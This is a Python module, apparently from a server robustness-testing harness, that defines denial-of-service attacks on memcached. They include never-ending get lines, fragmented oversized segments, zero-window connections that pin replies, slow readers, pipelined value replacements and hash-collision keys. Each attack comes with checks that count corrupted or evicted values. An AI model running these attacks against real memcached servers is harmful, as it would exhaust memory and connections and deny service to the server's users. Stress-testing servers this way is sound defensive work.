# SPDX-License-Identifier: BSL-1.0
"""Attacks by a client of memcached: requests that cost the server more than the client."""

import contextlib
import struct
import time

from hostile.attack import CONNECT_SECONDS, MEMCACHED, PAUSE_SECONDS, Attack, client, send_some, store


class LongGets(Attack):
    """Sends `get` commands whose line never ends. After each part of a line, another connection is served. So each part arrives in a
    segment of its own."""

    row = 1
    keys = (b"a",)
    getters = 6
    sent_keys_max = 600

    def begin(self) -> None:
        self.connections = [client(self.scene) for _ in range(2 * self.getters)]
        store(self.connections[0], b"a", b"v")
        self._sent = 0
        for getter in self.connections[: self.getters]:
            getter.sendall(b"get ")

    def press(self) -> None:
        if self._sent >= self.sent_keys_max:
            return super().press()
        self._sent += 1
        for getter, other in zip(self.connections[: self.getters], self.connections[self.getters :]):
            send_some(getter, b"a ")
            send_some(other, b"get a\r\n")
            with contextlib.suppress(OSError):
                other.recv(1 << 16)
        time.sleep(PAUSE_SECONDS)
        return None


class LongPieces(Attack):
    """Sends TCP segments that are longer than any command, as IP fragments. The fragments are reassembled on another core than the
    connection's."""

    row = 2
    pieces = (b"\0" + b"A" * 20_000, b"\0" + b"k" * 40_000, b"a" * 30_000, b"\r" * 9_000)
    # If a fragment is lost, the sequence number of the reset is wrong, and the connection stays until keep-alive ends it.
    stays = frozenset({"memcached.curr_connections"})
    # These values are as large as an unfinished command. Every second value is deleted, so that the heap places the attack's commands
    # between values.
    marks = 400

    @staticmethod
    def _mark(number: int) -> bytes:
        return b"%04d" % number * (480 + number % 60)

    def prepare(self) -> None:
        with contextlib.closing(client(self.scene)) as other:
            for number in range(self.marks):
                store(other, b"mark-%d" % number, self._mark(number))
            other.sendall(b"".join(b"delete mark-%d noreply\r\n" % number for number in range(0, self.marks, 2)))

    def begin(self) -> None:
        self._count = 0

    def press(self) -> None:
        self._count += 1
        peer = self.scene.peer
        connection = peer.connect((self.scene.foreign_address(self._count % 8), 20_000 + self._count), MEMCACHED)
        connection.send(b"get ")
        peer.poll(0.01)
        connection.send(self.pieces[self._count % len(self.pieces)])
        peer.poll(0.01)
        connection.reset()
        time.sleep(20 * PAUSE_SECONDS)

    def findings(self) -> dict[str, int]:
        """Returns the number of remaining values whose content has changed."""
        wrong = 0
        with contextlib.closing(client(self.scene)) as other:
            for number in range(1, self.marks, 2):
                other.sendall(b"get mark-%d\r\n" % number)
                value = self._mark(number)
                wanted = b"VALUE mark-%d 0 %d\r\n%s\r\nEND\r\n" % (number, len(value), value)
                got = b""
                while len(got) < len(wanted) and not got.endswith(b"END\r\n"):
                    got += other.recv(1 << 16) or b"END\r\n"
                wrong += got != wanted
        return {"corrupted": wrong}


class PendingRequests(Attack):
    """400 connections with a closed window keep sending requests. The server must queue the requests, because it cannot send the
    answers."""

    row = 3
    keys = (b"pending",)
    count = 400
    request = b"get pending\r\n" * 5000
    fill_seconds = 40.0
    idle_passes_max = 25

    def begin(self) -> None:
        self.connections = [client(self.scene, reads=False) for _ in range(self.count)]
        with contextlib.closing(client(self.scene)) as other:
            store(other, b"pending", b"p" * 1_000_000)
        # Sends until no connection accepts more bytes.
        deadline = time.monotonic() + self.fill_seconds
        idle_passes = 0
        while time.monotonic() < deadline and idle_passes < self.idle_passes_max:
            idle_passes = 0 if sum(send_some(connection, self.request) for connection in self.connections) else idle_passes + 1
            time.sleep(10 * PAUSE_SECONDS)
        self._next = 0

    def press(self) -> None:
        for _ in range(4):
            send_some(self.connections[self._next % self.count], self.request)
            self._next += 1
        time.sleep(PAUSE_SECONDS)


class Replacements(Attack):
    """Pipelined changes of one large value: each replaced value is freed only after a grace period."""

    row = 4
    keys = (b"large", b"number")
    marks = 300
    pipeline = 300

    def prepare(self) -> None:
        with contextlib.closing(client(self.scene)) as other:
            for mark in range(self.marks):
                store(other, b"mark-%d" % mark, b"m" * 10_000)

    def begin(self) -> None:
        self.connections = [client(self.scene) for _ in range(2)]
        self._pending = [b"", b""]
        store(self.connections[0], b"large", b"l" * 100_000)
        store(self.connections[1], b"number", b"7".ljust(100_000))

    def press(self) -> None:
        requests = (b"append large 0 0 1\r\n!\r\n" * self.pipeline, b"incr number 1\r\n" * self.pipeline)
        for at, connection in enumerate(self.connections):
            if not self._pending[at]:
                self._pending[at] = requests[at]
            self._pending[at] = self._pending[at][send_some(connection, self._pending[at]) :]
            with contextlib.suppress(OSError):
                connection.recv(1 << 18)
        time.sleep(10 * PAUSE_SECONDS)

    def findings(self) -> dict[str, int]:
        """Returns the number of values that were lost although there was room for them."""
        gone = 0
        with contextlib.closing(client(self.scene)) as other:
            for mark in range(self.marks):
                other.sendall(b"touch mark-%d 0\r\n" % mark)
                gone += other.recv(100) != b"TOUCHED\r\n"
            other.sendall(b"".join(b"delete mark-%d noreply\r\n" % mark for mark in range(self.marks)))
        return {"evicted": gone}


class PinnedReplies(Attack):
    """Requests of 13 bytes, each with a reply of 4 KB, from clients whose window is zero from the start."""

    row = 5
    words = ("memory=16M",)
    limit_bytes = 16 << 20
    keys = (b"a",)
    count = 90
    requests_max = 550
    # Number of requests that fit into one segment.
    batch = 50

    def begin(self) -> None:
        peer = self.scene.peer
        with contextlib.closing(client(self.scene)) as other:
            store(other, b"a", b"a" * 1000)
        for number in range(self.count):
            self.raw.append(peer.connect((self.scene.foreign_address(number % 8), 30_000 + number), MEMCACHED, window=0))
        for connection in self.raw:
            connection.acknowledges = False
        self._next = 0

    def press(self) -> None:
        if self._next < self.count * self.requests_max // self.batch:
            self.raw[self._next % self.count].send(b"get a a a a\r\n" * self.batch)
            self._next += 1
        self.scene.peer.poll(PAUSE_SECONDS)


class CollidingKeys(Attack):
    """Keys that begin with a public constant. Some hash functions XOR the key's first bytes with this constant and multiply by the result.
    Without a secret, the result is zero, so all these keys have the same hash."""

    row = 6
    constant = struct.pack("<Q", 0x9E3779B97F4A7C15)
    batch = 100
    keys_max = 40_000

    def begin(self) -> None:
        self.connections = [client(self.scene)]
        self._sent = 0
        self._pending = b""

    def _key(self, number: int) -> bytes:
        return self.constant + b"%08x" % number + b"the same"

    def press(self) -> None:
        if not self._pending and self._sent < self.keys_max:
            opcode_set_quiet = 0x11
            for number in range(self._sent, self._sent + self.batch):
                self._pending += _binary(opcode_set_quiet, self._key(number), b"v", struct.pack("!II", 0, 0))
            self._sent += self.batch
        self._pending = self._pending[send_some(self.connections[0], self._pending) :]
        time.sleep(5 * PAUSE_SECONDS)

    def end(self) -> None:
        super().end()
        opcode_delete_quiet, opcode_no_operation = 0x14, 0x0A
        with contextlib.closing(client(self.scene)) as other:
            for first in range(0, self._sent, self.batch):
                other.sendall(b"".join(_binary(opcode_delete_quiet, self._key(number)) for number in range(first, first + self.batch)))
                other.sendall(_binary(opcode_no_operation))
                answers = b""
                while not answers.endswith(_binary(opcode_no_operation).replace(b"\x80", b"\x81", 1)):
                    received = other.recv(1 << 16)
                    assert received, "the connection ended"
                    answers += received


class OtherSizes(Attack):
    """Fills the store with small values, some of which are touched again and again, then stores large values."""

    row = 7
    # The cache gets most of the machine's memory, so that the heap has to move memory from one size class to another.
    memory = "96M"
    words = ("memory=56M",)
    small_values = 250_000
    hot_every = 250
    may_miss = True
    large_values = 1200
    refused = 0

    def prepare(self) -> None:
        with contextlib.closing(client(self.scene)) as other:
            for first in range(0, self.small_values, 1000):
                other.sendall(b"".join(b"set small-%d 0 0 100 noreply\r\n%0100d\r\n" % (at, at) for at in range(first, first + 1000)))
            other.sendall(b"version\r\n")
            other.recv(100)

    def begin(self) -> None:
        self.connections = [client(self.scene)]
        self._stored = 0

    def press(self) -> None:
        if self._stored >= self.large_values:
            return super().press()
        (other,) = self.connections
        other.settimeout(CONNECT_SECONDS)
        if self._stored % 100 == 0:
            hot = range(0, self.small_values, self.hot_every)
            other.sendall(b"".join(b"touch small-%d 0 noreply\r\n" % at for at in hot))
        other.sendall(b"set large-%d 0 0 100000\r\n" % self._stored + b"L" * 100_000 + b"\r\n")
        self.refused += other.recv(100) != b"STORED\r\n"
        self._stored += 1
        time.sleep(PAUSE_SECONDS)
        return None

    def end(self) -> None:
        super().end()
        with contextlib.closing(client(self.scene)) as other:
            other.sendall(b"".join(b"delete large-%d noreply\r\n" % at for at in range(self._stored)))
            other.sendall(b"version\r\n")
            other.recv(100)

    def findings(self) -> dict[str, int]:
        return {"refused_large": self.refused}


class SlowReaders(Attack):
    """69 clients request values and read a few bytes a second. The values are short, so the server copies them for each reader."""

    row = 9
    words = ("memory=16M",)
    limit_bytes = 16 << 20
    keys = (b"copied",)
    count = 69
    request = b"get copied copied copied copied\r\n" * 50

    def begin(self) -> None:
        self.connections = [client(self.scene, reads=False) for _ in range(self.count)]
        with contextlib.closing(client(self.scene)) as other:
            store(other, b"copied", b"c" * 1000)
        self._next = 0

    def press(self) -> None:
        for _ in range(4):
            connection = self.connections[self._next % self.count]
            send_some(connection, self.request)
            if self._next % 10 == 0:
                with contextlib.suppress(OSError):
                    connection.recv(1)
            self._next += 1
        time.sleep(2 * PAUSE_SECONDS)


def _binary(opcode: int, key: bytes = b"", value: bytes = b"", extras: bytes = b"") -> bytes:
    """Returns a request of memcached's binary protocol."""
    body = extras + key + value
    return struct.pack("!BBHBBHIIQ", 0x80, opcode, len(key), len(extras), 0, 0, len(body), 0, 0) + body
